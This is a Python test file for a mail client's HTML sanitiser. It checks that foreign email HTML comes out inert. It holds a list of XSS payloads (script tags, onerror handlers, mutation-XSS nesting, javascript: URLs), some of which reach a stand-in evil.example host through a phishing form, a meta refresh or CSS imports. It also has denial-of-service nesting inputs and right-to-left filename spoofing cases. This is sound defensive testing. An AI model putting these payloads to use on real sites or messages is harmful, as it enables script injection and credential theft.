"""Foreign HTML, kept and shown: T33, T34, T36, and never more work than its length is worth (T27, T28)."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from holdfast.channels.mail.sanitising import clean_html, html_to_show

HOSTILE = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg/onload=alert(1)>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<template><img src=x onerror=alert(1)></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<form action="https://evil.example"><input name=password><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<div style="background:url(https://evil.example/x)">x</div>',
    "<style>@import url(https://evil.example/x.css);</style>",
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href=" &#1;javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="//evil.example/x" id=location name=cookie onclick=alert(1)>x</a>',
    '<img src="cid:x" onerror="alert(1)" style="x">',
    '<p class="btn" id="main">x</p>',
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    '<b title="<img src=x onerror=alert(1)>">x</b>',
]

_TAG = re.compile(r"<([a-z0-9]+)((?:\s+[a-z]+=\"[^\"]*\")*)\s*/?>|</[a-z0-9]+>")


@pytest.mark.parametrize("source", HOSTILE)
def test_t33_t34_nothing_that_could_run_or_reach_out_is_left(source: str):
    kept = clean_html(f"<p>before</p>{source}<p>after</p>")
    assert "before" in kept
    _assert_inert(kept)
    _assert_inert(html_to_show(kept, {"x": "/files/abc/"}))


@given(
    st.lists(
        st.sampled_from(
            [
                *HOSTILE,
                "<b>",
                "</b>",
                "<table>",
                "<td>",
                "text",
                "<a href='https://ok.example'>",
                "</a>",
                "<",
                '"',
            ]
        ),
        max_size=12,
    )
)
@settings(max_examples=60, deadline=None)
def test_t33_nor_of_any_mixture_of_such_things_however_often_it_is_cleaned(parts: list[str]):
    kept = clean_html("".join(parts))
    _assert_inert(kept)
    _assert_inert(clean_html(kept))


@given(st.text(max_size=300))
@settings(max_examples=60, deadline=None)
def test_any_text_is_cleaned(source: str):
    _assert_inert(clean_html(source))


def _assert_inert(kept: str) -> None:
    rest = _TAG.sub("", kept)
    assert "<" not in rest
    for tag, attributes in re.findall(r'<([a-z0-9]+)((?:\s+[a-z]+="[^"]*")*)', kept):
        assert tag not in {
            "script",
            "style",
            "svg",
            "math",
            "form",
            "input",
            "meta",
            "base",
            "iframe",
            "object",
            "link",
            "template",
        }
        for name, value in re.findall(r'([a-z]+)="([^"]*)"', attributes):
            assert not name.startswith("on")
            assert name not in {"style", "id", "name", "srcset", "target", "background"}
            if name == "href":
                assert value.startswith(("https://", "http://", "mailto:", "tel:"))
            if name == "src":
                assert value.startswith(("cid:", "/files/"))
            if name == "class":
                assert value == "image-left-out"


def test_t36_remote_images_are_left_out_and_said_to_be():
    kept = clean_html(
        '<p>a<img src="https://track.example/p.gif" alt="our &lt;b&gt; logo">b<img src="data:image/png;base64,AA"></p>'
    )
    assert "track.example" not in kept
    assert '<span class="image-left-out">[image: our &lt;b&gt; logo]</span>' in kept
    assert '<span class="image-left-out">[image]</span>' in kept


def test_images_of_the_mail_itself_are_shown_from_its_attachments():
    kept = clean_html('<p><img src="cid:part1@x" width="20"><img src="cid:unknown@x"></p>')
    shown = html_to_show(kept, {"part1@x": "/files/k3y/"})
    assert '<img src="/files/k3y/" width="20">' in shown
    assert "unknown" not in shown
    assert "javascript" not in html_to_show(kept, {"part1@x": "javascript:alert(1)"})


def test_ordinary_formatting_stays():
    source = (
        "<h1>Title</h1><p>One <b>bold</b> <a href='https://ok.example/?a=1&amp;b=2'>link</a></p><ul><li>x</ul>"
        "<table><tr><td colspan=2>c</td></tr></table><blockquote>q</blockquote>"
    )
    kept = clean_html(source)
    for part in (
        "<h1>Title</h1>",
        "<b>bold</b>",
        'href="https://ok.example/?a=1&amp;b=2"',
        "<li>x</li>",
        'colspan="2"',
        "<blockquote>q</blockquote>",
    ):
        assert part in kept
    assert 'rel="noopener noreferrer nofollow"' in kept


@pytest.mark.parametrize(
    "source",
    [
        "<div>" * 100_000,
        "<p>" + "".join(f"<b title={number}>" for number in range(1000)) + "</p>" + "<p>x</p>" * 9000,
        "<font lang=a>" * 1000 + "<p>x" * 25_000,
        "<table><tr><td>" * 20_000,
        "<div " * 50_000,
        "</div>" * 100_000,
        "<" * 200_000,
        "<!--" * 50_000,
        'x="' * 100_000,
    ],
    ids=["deep", "formatting", "font", "tables", "unclosed", "closing", "angles", "comments", "quotes"],
)
def test_t27_t28_hostile_nesting_costs_no_more_than_its_length(source: str):
    begun = time.process_time()
    clean_html(source)
    assert time.process_time() - begun < 1.0


@pytest.mark.parametrize("override", ["\u202e", "&#x202e;", "&#8238;", "\u202d"])
def test_t32_no_letters_are_shown_in_another_order_than_they_stand(override: str) -> None:
    source = f'<p dir="rtl">\u202bחשבון\u202c <b title="x">invoice_{override}fdp.exe</b></p>'
    kept = clean_html(source)
    assert kept == '<p dir="rtl">\u202bחשבון\u202c <b>invoice_fdp.exe</b></p>'
    assert html_to_show(kept.replace("_", "_\u202e"), {}) == kept
